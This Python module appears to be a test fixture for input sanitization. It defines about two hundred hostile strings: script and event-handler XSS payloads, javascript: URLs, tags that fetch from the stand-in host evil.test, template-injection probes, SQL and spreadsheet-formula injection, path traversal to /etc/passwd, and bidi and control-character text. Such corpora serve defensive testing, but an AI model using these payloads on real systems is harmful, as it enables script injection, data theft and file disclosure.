# ruff: noqa: E501 - a table reads better in long lines
"""Two hundred texts that try to run, to fetch, to break out or to mislead, each with a mark by which a test finds it.

What would run sets `window.__hit`; what would fetch asks `http://evil.test`. Written from the known families: script
and markup injection, event handlers, URLs, CSS, template syntax, JSON and script breakouts, formulas, encodings and bidi.
"""

from __future__ import annotations

HIT = "window.__hit=1"
FETCH = "http://evil.test/x"

_SCRIPTS = [
    f"<script>{HIT}</script>", f"<SCRIPT>{HIT}</SCRIPT>", f"</script><script>{HIT}</script>",
    f"<script src={FETCH}></script>", f"<script type=module>{HIT}</script>", f"<script\n>{HIT}</script\n>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"<script/x>{HIT}</script>", f"<script>{HIT}//", f"<!--<script>{HIT}</script>-->",
    f"<![CDATA[<script>{HIT}</script>]]>", f"<script>{HIT}<!--", f"</SCRIPT ><script>{HIT}</script>",
    f"</script/><script>{HIT}</script>", f"</script\t><script>{HIT}</script>", f"<script>\u2028{HIT}\u2029</script>",
    f"'-{HIT}-'", f'"-{HIT}-"', f"\\'-{HIT}//", f'\\"-{HIT}//', f"`-{HIT}-`", f"${{{HIT}}}", f"';{HIT};'", f'";{HIT};"',
    f"*/{HIT}/*", f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e", f"\\x3cscript\\x3e{HIT}\\x3c/script\\x3e",
]  # fmt: skip
_HANDLERS = [
    f"<{tag} {attribute}={HIT}>"
    for tag, attribute in (
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"),
        ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"),
        ("iframe", "onload"), ("object data=x", "onerror"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
        ("div style=animation-name:x", "onanimationstart"), ("p id=x tabindex=1", "onfocus"), ("a href=x", "onmouseover"),
        ("button", "onclick"), ("form", "onsubmit"), ("math href=x", "onclick"), ("link rel=stylesheet href=x", "onerror"),
        ("img src=x ", "OnErRoR"), ("img/src=x/", "onerror"), ("image src=x", "onerror"), ("svg><animate", "onbegin"),
        ("svg><set", "onbegin"), ("dialog open", "oncancel"), ("source", "onerror"), ("track default src=x", "onload"),
        ("keygen autofocus", "onfocus"), ("body", "onpageshow"), ("x", "onclick"), ("x contenteditable", "onblur"),
        ("style", "onload"), ("meter", "onmouseover"), ("frameset", "onload"), ("table background=x", "onerror"),
    )
]  # fmt: skip
_ATTRIBUTES = [
    f'" onmouseover="{HIT}" x="', f"' onmouseover='{HIT}' x='", f'"><img src=x onerror={HIT}>', f"'><img src=x onerror={HIT}>",
    f'" autofocus onfocus="{HIT}', f"` onmouseover={HIT}", f'" style="background:url({FETCH})"', '" hidden="', "' id='data' x='",
    '"></title><h1>x</h1>', "</textarea><b>x", "</noscript><b>x", "</style><b>x", "</template><b>x", "</select><b>x", "</option><b>x",
    "</svg><b>x", "</dialog><b>x", "</main></body></html><b>x", "--><b>x", "]]><b>x", "?><b>x", "%><b>x",
]  # fmt: skip
_ADDRESSES = [
    f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f"java\tscript:{HIT}", f"java\nscript:{HIT}", f" javascript:{HIT}",
    f"\x01javascript:{HIT}", f"javascript&colon;{HIT}", f"javascript&#58;{HIT}", f"&#106;avascript:{HIT}", f"vbscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    f'<a href="javascript:{HIT}">x</a>', f'<a href="{FETCH}" ping="{FETCH}">x</a>', f"[x](javascript:{HIT})", f"![x]({FETCH})",
    f"{FETCH}?a=1&b=2#c", "https://evil.test@good.test/", "https://xn--pple-43d.test/", "https://аpple.test/", "//evil.test/x",
    "\\\\evil.test\\x", "file:///etc/passwd", "https://good.test/\u202egnp.exe", f"mailto:x@y.test?body={HIT}", "tel:+5511999990000",
    f"blob:{FETCH}", f"https://good.test/{'a' * 300}", f"https://good.test/?q=<script>{HIT}</script>", "http://127.0.0.1:1/x",
]  # fmt: skip
_FETCHERS = [
    f'<img src="{FETCH}">', f'<link rel=stylesheet href="{FETCH}">', f'<iframe src="{FETCH}"></iframe>', f'<object data="{FETCH}">',
    f'<embed src="{FETCH}">', f'<base href="{FETCH}">', f'<meta http-equiv=refresh content="0;url={FETCH}">',
    f"<style>@import url({FETCH});</style>", f"<style>*{{background:url({FETCH})}}</style>", f'<form action="{FETCH}"><input autofocus>',
    f'<svg><image href="{FETCH}"/></svg>', f'<svg><use href="{FETCH}#x"/></svg>', f'<video poster="{FETCH}">', f'<input type=image src="{FETCH}">',
    f'<body background="{FETCH}">', f'<link rel=preconnect href="{FETCH}">', f'<link rel=prefetch href="{FETCH}">',
    f'<meta http-equiv="Content-Security-Policy" content="report-uri {FETCH}">', f"<!DOCTYPE x SYSTEM '{FETCH}'>",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*6 }}", "{% raw %}{{ x }}", "{# c #}", "${7*6}", "#{7*6}", "<%= 7*6 %>", "{{constructor.constructor('window.__hit=1')()}}",
    "{{ config }}", "{{ ''.__class__.__mro__ }}", "{name}", "{n}", "{0}", "%(name)s", "%s %d %n", "$name", "[[7*6]]", "@(7*6)", "{{{x}}}",
    "{% include '/etc/passwd' %}", "{%- endraw -%}",
]  # fmt: skip
_DATA = [
    "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "true", "[object Object]", "'; drop table conversation; --",
    '"}],"x":[{"', "\\", "\\\\", '\\"', "\\u0000", "=HYPERLINK(\"http://evil.test\")", "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-1+1",
    "../../../etc/passwd", "..\\..\\x", "#v=overview&c=x", "?token=x", "%3Cscript%3E", "&lt;script&gt;", "&amp;amp;", "&#x3c;script&#x3e;",
    "H4sIAAAAAAAA", "\ufeffbom",
]  # fmt: skip
_SEEN = [
    "\u202egnirts\u202c", "\u2066isolate\u2069", "\u2067\u202eboth", "\u200fשלום", "مرحبا \u202dx", "\u061cx", "a\u200bb\u200bc", "\u2060x\u2060",
    "null:\x00", "bell:\x07", "\x1b[31mred\x1b[0m", "\x9b31m", "del:\x7f", "a\rb", "a\u0085b", "a\u2028b\u2029c", "\ufffd", "\ufffe", "half \ud83d".encode("utf-8", "replace").decode(),
    "Z\u0351\u036b\u0343\u0363a\u0348\u032cl\u0353go", "😡👨‍👩‍👧❤️🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "tag\U000e0041\U000e0042", "ﷺ", "𝕳𝖊𝖑𝖑𝖔", "ｆｕｌｌ", "ı İ ß ſ", "e\u0301 é",
    "x" * 3_000, "\n" * 50 + "x", " \t ", "\u3164\u115f",
]  # fmt: skip

FAMILIES = {
    "scripts": _SCRIPTS, "handlers": _HANDLERS, "attributes": _ATTRIBUTES, "addresses": _ADDRESSES, "fetchers": _FETCHERS,
    "templates": _TEMPLATES, "data": _DATA, "seen": _SEEN,
}  # fmt: skip
STRINGS: tuple[str, ...] = tuple(text for family in FAMILIES.values() for text in family)
